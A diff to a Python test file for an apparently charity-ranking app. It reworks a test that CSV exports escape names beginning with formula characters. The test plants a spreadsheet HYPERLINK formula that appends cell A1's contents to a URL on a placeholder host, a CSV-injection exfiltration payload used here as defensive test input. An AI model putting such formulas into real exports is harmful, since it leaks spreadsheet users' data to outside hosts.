@@ -7,7 +7,7 @@ import io
 
 import pytest
 from fastapi.testclient import TestClient
-from sqlalchemy import select
+from sqlalchemy import update
 
 from risk_model.export import FORMULA_STARTS
 from risk_model.lists.membership import LIST_TITLES, REVIEW_LISTS, WHY_ON_LIST
@@ -243,18 +243,15 @@ def test_a_name_a_spreadsheet_would_run_is_exported_as_text(client):
     top = top_of_list(client)[0]
     formula = '=HYPERLINK("http://example.invalid/?"&A1,"Click for details")'
     sessions = client.app.state.db.sessions
-    with sessions() as session:
-        row = session.scalars(select(ScoredCharity).where(ScoredCharity.charity_number == top["charity_number"])
-                              ).first()
-        original, row.charity_name = row.charity_name, formula
-        session.commit()
+    # Every stored row of the charity (other tests' dates and versions too), so the current list's is among them.
+    rows = update(ScoredCharity).where(ScoredCharity.charity_number == top["charity_number"])
+    with sessions.begin() as session:
+        session.execute(rows.values(charity_name=formula))
     try:
         exported = list(csv.DictReader(io.StringIO(client.get("/rankings", params={"format": "csv"}).text)))
     finally:
-        with sessions() as session:
-            session.scalars(select(ScoredCharity).where(ScoredCharity.charity_number == top["charity_number"])
-                            ).first().charity_name = original
-            session.commit()
+        with sessions.begin() as session:
+            session.execute(rows.values(charity_name=top["charity_name"]))
     names = {r["charity_number"]: r["charity_name"] for r in exported}
     assert names[top["charity_number"]] == "'" + formula
     assert not any(name.startswith(FORMULA_STARTS) for name in names.values())
